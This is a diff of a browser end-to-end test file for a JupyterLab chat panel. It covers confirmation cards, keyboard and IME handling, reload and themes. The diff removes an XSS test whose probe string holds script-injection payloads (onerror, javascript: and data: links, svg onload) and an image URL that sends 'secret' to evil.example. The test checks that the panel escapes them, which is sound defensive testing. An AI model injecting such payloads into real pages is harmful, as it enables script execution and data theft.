@@ -1,12 +1,12 @@
 """The panel in a real JupyterLab, driven by a real browser."""
 
-import re
 from collections.abc import Callable
 from pathlib import Path
 
 import pytest
 from playwright.sync_api import Locator, Page, expect
 
+from tests.e2e.browser.reading import each_theme
 from tests.written import habits
 
 pytestmark = [pytest.mark.browser, pytest.mark.timeout(600)]
@@ -72,14 +72,15 @@ def test_card_run_writes_the_row(page: Page, database: Path, shots: Path) -> Non
     assert habits(database) == ["caffeine-cutoff"]
     expect(page.locator(".lhkit-run")).to_have_count(0)
     assert page.locator('[data-role="tool"][data-status="ok"]').count() == 2
-    page.locator(".lhkit-chat").screenshot(path=shots / "panel-light.png")
+    for theme in each_theme(page):
+        page.locator(".lhkit-chat").screenshot(path=shots / f"panel-{theme}.png")
     say(page, "오늘 카페인 지켰어, 기록해줘")
     expect(card(page)).to_have_attribute("data-state", "open")
-    page.screenshot(path=shots / "conversation-light.png")
+    page.screenshot(path=shots / "conversation-dark.png")
 
 
 @pytest.mark.promise("notebook.no_means_no")
-def test_card_cancel_escape_and_stop_write_nothing(page: Page, database: Path) -> None:
+def test_card_cancel_escape_stop_and_reload_write_nothing(page: Page, database: Path) -> None:
     open_card(page).locator(".lhkit-cancel").click()
     expect(card(page)).to_contain_text("취소함")
     expect(answer(page)).to_contain_text("아무것도 하지 않았")
@@ -96,9 +97,38 @@ def test_card_cancel_escape_and_stop_write_nothing(page: Page, database: Path) -
     assert habits(database) == []
     say(page, "안녕")
     expect(answer(page)).to_contain_text("안녕하세요")  # the history is still good
+    open_card(page)
+    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
+    page.goto(page.url.replace("?reset", ""), wait_until="domcontentloaded")
+    expect(card(page)).to_have_attribute("data-state", "open")
+    expect(page.locator('[data-role="user"]').last).to_have_text("나카페인 줄이는 습관을 추가해줘")
+    page.wait_for_timeout(EARLY_MS + 300)
+    assert habits(database) == []
+    page.locator(".lhkit-run").click()
+    expect(card(page)).to_have_attribute("data-state", "allowed")
+    expect(answer(page)).to_contain_text("맞춰 해 보세요!")
+    assert habits(database) == ["caffeine-cutoff"]
 
 
-def test_card_keyboard_ignores_early_and_held_enter(page: Page, database: Path) -> None:
+def test_keyboard_in_input_and_card(page: Page, database: Path) -> None:
+    box = page.locator(".lhkit-input")
+    box.click()
+    page.keyboard.type("dd")  # deletes a cell in command mode
+    page.keyboard.press("Shift+Enter")
+    page.keyboard.type("list")
+    expect(box).to_have_value("dd\nlist")
+    expect(page.locator(".jp-CodeCell")).to_have_count(1)
+    composing = "new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true})"
+    box.evaluate(f"box => box.dispatchEvent({composing})")
+    enter = "new KeyboardEvent('keydown', {key: 'Enter', bubbles: true})"
+    old = f"Object.defineProperty({enter}, 'keyCode', {{value: 229}})"
+    box.evaluate(f"box => box.dispatchEvent({old})")
+    expect(box).to_have_value("dd\nlist")
+    expect(page.locator('[data-role="user"]')).to_have_count(0)
+    page.keyboard.press("Enter")
+    expect(page.locator('[data-role="user"]')).to_have_count(1)
+    expect(answer(page)).to_contain_text("Add a habit to cut caffeine")
+
     page.evaluate("() => { const now = performance.now(); performance.now = () => now; }")
     say(page, ADD)
     run = page.locator(".lhkit-run")
@@ -128,26 +158,6 @@ def test_card_keyboard_ignores_early_and_held_enter(page: Page, database: Path) 
     assert habits(database) == ["caffeine-cutoff"]
 
 
-def test_input_handles_shortcuts_line_breaks_and_ime(page: Page) -> None:
-    box = page.locator(".lhkit-input")
-    box.click()
-    page.keyboard.type("dd")  # deletes a cell in command mode
-    page.keyboard.press("Shift+Enter")
-    page.keyboard.type("list")
-    expect(box).to_have_value("dd\nlist")
-    expect(page.locator(".jp-CodeCell")).to_have_count(1)
-    composing = "new KeyboardEvent('keydown', {key: 'Enter', isComposing: true, bubbles: true})"
-    box.evaluate(f"box => box.dispatchEvent({composing})")
-    enter = "new KeyboardEvent('keydown', {key: 'Enter', bubbles: true})"
-    old = f"Object.defineProperty({enter}, 'keyCode', {{value: 229}})"
-    box.evaluate(f"box => box.dispatchEvent({old})")
-    expect(box).to_have_value("dd\nlist")
-    expect(page.locator('[data-role="user"]')).to_have_count(0)
-    page.keyboard.press("Enter")
-    expect(page.locator('[data-role="user"]')).to_have_count(1)
-    expect(answer(page)).to_contain_text("Add a habit to cut caffeine")
-
-
 def test_stop_and_other_buttons(open_notebook: OpenNotebook, database: Path, shots: Path) -> None:
     page = open_notebook(SLOW_DEMO.format(path=str(database)))
     say(page, "긴 이야기 하나 해줘")
@@ -173,20 +183,6 @@ def test_stop_and_other_buttons(open_notebook: OpenNotebook, database: Path, sho
     expect(page.locator(".lhkit-message")).to_have_text(
         ["The conversation is cleared. This is a new start."]
     )
-
-
-def test_reload_keeps_conversation_and_open_card(page: Page, database: Path) -> None:
-    open_card(page)
-    page.evaluate("() => window.jupyterapp.commands.execute('docmanager:save')")
-    page.goto(page.url.replace("?reset", ""), wait_until="domcontentloaded")
-    expect(card(page)).to_have_attribute("data-state", "open")
-    expect(page.locator('[data-role="user"]')).to_have_text("나카페인 줄이는 습관을 추가해줘")
-    page.wait_for_timeout(EARLY_MS + 300)
-    assert habits(database) == []
-    page.locator(".lhkit-run").click()
-    expect(card(page)).to_have_attribute("data-state", "allowed")
-    expect(answer(page)).to_contain_text("맞춰 해 보세요!")
-    assert habits(database) == ["caffeine-cutoff"]
 
 
 IN_CELL = """
@@ -226,73 +222,3 @@ def test_gate_in_a_cell_click_interrupt_and_clear(
         window.jupyterapp.commands.execute('notebook:clear-cell-output');
     }""")
     expect(cells.nth(3)).to_contain_text("False closed")
-
-
-PROBES = r"""
-from lhkit import ScriptedModel, ToolDefinition, ToolOk, ToolRegistry
-from lhkit.models.scripted import Reply
-from lhkit.notebook import ChatPanel
-from lhkit.messages import ToolCall
-EVIL = '''<img src=x onerror="window.ran=1"><script>window.ran=2</script>
-[link](javascript:window.ran=3) [data](data:text/html,<script>window.ran=4</script>)
-![secret](https://evil.example/?q=secret) <svg onload="window.ran=5"> "><b onmouseover=window.ran=6>
-'''
-tool = ToolDefinition(name="probe", description=EVIL, parameters={"type": "object"},
-                      handler=lambda args, deps: ToolOk({"echo": EVIL}), is_destructive=True)
-replies = [Reply(text=EVIL, calls=(ToolCall(name="probe", args={EVIL: EVIL}, raw=EVIL),)),
-           Reply(text=EVIL), Reply(text=EVIL, error=RuntimeError(EVIL))]
-panel = ChatPanel(model=ScriptedModel(replies), toolset=ToolRegistry([tool]), opt_in=True)
-panel
-"""
-
-
-@pytest.mark.promise("notebook.xss")
-def test_panel_escapes_model_and_tool_text(open_notebook: OpenNotebook, shots: Path) -> None:
-    page = open_notebook(PROBES)
-    say(page, "<img src=x onerror='window.ran=7'>")
-    expect(card(page)).to_have_attribute("data-state", "open")
-    page.wait_for_timeout(EARLY_MS + 100)
-    page.locator(".lhkit-run").click()
-    expect(card(page)).to_have_attribute("data-state", "allowed")
-    expect(page.locator(".lhkit-send")).to_be_enabled()
-    page.locator('[data-role="tool"] summary').first.click()
-    say(page, "again")
-    expect(page.locator('[data-role="error"]')).to_contain_text("onerror")
-    page.screenshot(path=shots / "probes.png")
-    assert page.evaluate("() => window.ran") is None
-    inside = page.locator(".lhkit-list")
-    assert inside.locator("img, script, svg, iframe, b[onmouseover]").count() == 0
-    assert inside.locator('a:not([href^="http"])').count() == 0
-    assert [url for url in page.requested if "evil" in url] == []  # type: ignore[attr-defined]  # set by the fixture
-
-
-OPT_IN = """
-from lhkit import ScriptedModel
-from lhkit.models.scripted import say
-from lhkit.notebook import ChatPanel
-from lhkit.tools.registry import ToolRegistry
-panel = ChatPanel(model=ScriptedModel([say("반가워요")], name="gemma-test"), toolset=ToolRegistry())
-panel
-"""
-
-
-def test_opt_in_is_required_and_readable_in_dark_theme(
-    open_notebook: OpenNotebook, shots: Path
-) -> None:
-    page = open_notebook(OPT_IN, DEMO.format(path=None), theme="JupyterLab Dark")
-    first = page.locator(".lhkit-chat").first
-    expect(first.locator(".lhkit-opt-in")).to_contain_text("gemma-test")
-    expect(first.locator(".lhkit-input")).to_be_disabled()
-    page.screenshot(path=shots / "opt-in-dark.png")
-    expect(first).not_to_have_class(re.compile("lhkit-deaf"))  # the kernel hears us
-    first.locator('[data-action="opt_in"]').click()
-    expect(first.locator(".lhkit-opt-in")).to_have_count(0)
-    first.locator(".lhkit-input").fill("안녕")
-    first.locator(".lhkit-send").click()
-    expect(first.locator('[data-role="assistant"]')).to_contain_text("반가워요")
-    second = page.locator(".lhkit-chat").nth(1)
-    second.scroll_into_view_if_needed()
-    second.locator(".lhkit-input").fill(ADD)
-    second.locator(".lhkit-send").click()
-    expect(second.locator(".lhkit-run")).to_be_focused()
-    second.screenshot(path=shots / "panel-dark.png")
